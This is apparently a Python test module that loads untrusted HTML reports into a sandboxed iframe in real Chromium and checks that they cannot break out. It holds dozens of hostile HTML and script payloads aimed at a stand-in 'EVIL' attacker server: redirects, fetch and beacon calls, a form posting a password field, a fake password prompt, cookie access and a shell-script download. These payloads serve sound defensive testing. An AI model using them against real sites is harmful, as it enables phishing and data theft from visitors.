"""Attacks by the HTML report of a suite, in a real Chromium: it must stay in its frame."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Browser, Page, expect

from bot.web.application import application
from tests.fakes.adapters import PATIENCE
from tests.web.conftest import Bench
from tests.web.test_web_browser import address, launched

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

OWN = "suites/unit/html/001-index.html"
FRAME = f"/reports/41/{OWN}"
CONTENT = f"/reports/41/content/{OWN}"
EVIL = "EVIL"
"""Stands for the address of the attacker's server."""

SUBMIT = "<script>document.forms[0].submit()</script>"

ALONE = {
    "location": "<script>location = 'EVIL/x'</script>",
    "location.replace": "<script>location.replace('EVIL/x')</script>",
    "location to a page of the bot": "<script>location = '/runs/41'</script>",
    "location to data": "<script>location = 'data:text/html,<h1>Sign in</h1>'</script>",
    "location to a blob": "<script>location = URL.createObjectURL(new Blob(['x']))</script>",
    "meta refresh": "<meta http-equiv=refresh content='0; url=EVIL/x'>",
    "top.location": "<script>top.location = 'EVIL/x'</script>",
    "parent.location": "<script>parent.location.href = 'EVIL/x'</script>",
    "cookie of the bot": "<script>document.cookie</script>",
    "document of the bot": "<script>parent.document.body.innerHTML = ''</script>",
    "storage": "<script>localStorage.x = 1</script>",
    "form": f"<form method=post action='EVIL/x'><input name=password></form>{SUBMIT}",
    "form to the bot": f"<form method=post action='/webhooks/gitee'></form>{SUBMIT}",
    "dialog": "<script>prompt('Your password?')</script>",
    "fetch": "<script>fetch('EVIL/x')</script>",
    "fetch of the API": "<script>fetch('/api/v1/runs')</script>",
    "XMLHttpRequest": "<script>const x = new XMLHttpRequest(); x.open('GET', 'EVIL/x'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('EVIL/x', 'x')</script>",
    "WebSocket": "<script>new WebSocket('EVIL/x'.replace('http', 'ws'))</script>",
    "EventSource": "<script>new EventSource('EVIL/x')</script>",
    "image": "<img src='EVIL/x'>",
    "style sheet": "<link rel=stylesheet href='EVIL/x'>",
    "import of a style": "<style>@import 'EVIL/x';</style>",
    "font": "<style>@font-face {font-family: f; src: url('EVIL/x')} p {font-family: f}</style><p>text",
    "script": "<script src='EVIL/x'></script>",
    "module": "<script type=module>import 'EVIL/x'</script>",
    "worker": "<script>new Worker('EVIL/x')</script>",
    "service worker": "<script>navigator.serviceWorker.register('/x')</script>",
    "frame": "<iframe src='EVIL/x'></iframe>",
    "frame of the bot": "<iframe src='/runs/41'></iframe>",
    "object": "<object data='EVIL/x'></object>",
    "embedded content": "<embed src='EVIL/x'>",
    "video": "<video src='EVIL/x'></video>",
    "base address": "<base href='EVIL/'><img src=x>",
}  # fmt: skip
"""HTML that acts without the visitor."""

CLICKED = {
    "link": "<a href='EVIL/x'>go</a>",
    "link to the top": "<a href='EVIL/x' target=_top>go</a>",
    "link to the parent": "<a href='EVIL/x' target=_parent>go</a>",
    "link to a new tab": "<a href='EVIL/x' target=_blank>go</a>",
    "popup": "<button onclick=\"window.open('EVIL/x')\">go</button>",
    "form": "<form method=post action='EVIL/x'><button>go</button></form>",
    "form to the top": "<form action='EVIL/x' target=_top><button>go</button></form>",
    "download": "<a href='data:application/x-sh,x' download=run.sh>go</a>",
    "top after a click": "<button onclick=\"top.location = 'EVIL/x'\">go</button>",
    "full screen": "<button onclick='document.documentElement.requestFullscreen()'>go</button>",
    "clipboard": "<button onclick=\"navigator.clipboard.writeText('curl')\">go</button>",
    "javascript in the parent": "<a href='javascript:alert(1)' target=_parent>go</a>",
}
"""HTML that acts when the visitor clicks."""


@dataclass
class Evil:
    """The attacker's server, and the requests that it gets."""

    url: str = ""
    hits: list[str] = field(default_factory=list)
    page: str = "<h1>Sign in</h1>"

    async def answer(self, request: web.Request) -> web.Response:
        self.hits.append(request.raw_path)
        return web.Response(text=self.page, content_type="text/html")


@dataclass
class Stage:
    """The bot's pages, the attacker's server and a browser, which all attacks of this module share."""

    bench: Bench
    server: TestServer
    evil: Evil
    browser: Browser


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def stage() -> AsyncIterator[Stage]:
    bench, evil, elsewhere = Bench(), Evil(), web.Application()
    elsewhere.router.add_route("*", "/{path:.*}", evil.answer)
    server = TestServer(application(bench.deps()))
    async with server, TestServer(elsewhere) as evil_server:
        evil.url = str(evil_server.make_url("")).rstrip("/")
        async with launched() as browser:
            yield Stage(bench, server, evil, browser)


@dataclass
class Visitor:
    """A tab with what Chromium reports in it."""

    stage: Stage
    page: Page
    refusals: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    downloads: list[str] = field(default_factory=list)
    refused: asyncio.Event = field(default_factory=asyncio.Event)
    """Set once Chromium has reported that it refused something."""

    def report(self, words: str) -> None:
        if "'webrtc'" not in words:
            self.refusals.append(words)
            self.refused.set()

    async def opens(self, html: str) -> None:
        """Open a report with this content."""
        content = f"<!doctype html>{html.replace(EVIL, self.stage.evil.url)}"
        self.stage.bench.files.own[41, OWN] = content.encode()
        await self.page.goto(address(self.stage.server, FRAME))

    async def still_sees_the_banner(self) -> None:
        """Assert that something was refused, nothing has left the frame, and the page around it is intact."""
        await asyncio.wait_for(self.refused.wait(), PATIENCE)
        await self.sees_the_banner()

    async def sees_the_banner(self) -> None:
        assert self.page.url == address(self.stage.server, FRAME)
        assert self.page.context.pages == [self.page]
        await expect(self.page.get_by_role("note")).to_contain_text("Written by the pull request's code")
        assert (self.stage.evil.hits, self.dialogs, self.downloads) == ([], [], [])
        assert await self.page.evaluate("[document.fullscreenElement, localStorage.length]") == [None, 0]


@pytest_asyncio.fixture(loop_scope="module")
async def visitor(stage: Stage) -> AsyncIterator[Visitor]:
    stage.evil.hits.clear()
    context = await stage.browser.new_context(locale="en-GB")
    # It is loaded after the page, and a test may be over by then: aiohttp leaves a file open if it must stop.
    await context.route("**/static/icon.svg*", lambda route: route.fulfill(status=204))
    made = Visitor(stage, await context.new_page())
    context.on("console", lambda message: made.report(message.text))
    context.on("weberror", lambda error: made.report(str(error.error)))
    made.page.on("dialog", lambda dialog: made.dialogs.append(dialog.message))
    made.page.on("download", lambda download: made.downloads.append(download.url))
    yield made
    await context.close()


@pytest.mark.parametrize("html", ALONE.values(), ids=ALONE)
async def test_a_report_does_nothing_outside_of_its_frame(visitor: Visitor, html: str) -> None:
    await visitor.opens(html)
    await visitor.still_sees_the_banner()


@pytest.mark.parametrize("html", CLICKED.values(), ids=CLICKED)
async def test_a_click_does_nothing_outside_of_the_frame(visitor: Visitor, html: str) -> None:
    await visitor.opens(html)
    await visitor.page.frame_locator("iframe").get_by_text("go").click()
    await visitor.still_sees_the_banner()


async def test_the_address_of_the_content_shows_the_frame(visitor: Visitor) -> None:
    await visitor.opens("own report")
    await visitor.page.goto(address(visitor.stage.server, CONTENT))
    await expect(visitor.page.frame_locator("iframe").get_by_text("own report")).to_be_visible()
    await visitor.sees_the_banner()


@pytest.mark.parametrize("element", ["iframe src", "object data", "embed src"])
async def test_another_site_cannot_show_the_content(visitor: Visitor, element: str) -> None:
    await visitor.opens("own report")
    content = address(visitor.stage.server, CONTENT)
    outer = f"<{element}='{content}'></{element.split(maxsplit=1)[0]}>"
    visitor.stage.evil.page = outer
    await visitor.page.goto(visitor.stage.evil.url)
    await asyncio.wait_for(visitor.refused.wait(), PATIENCE)
    assert "frame-ancestors" in str(visitor.refusals)
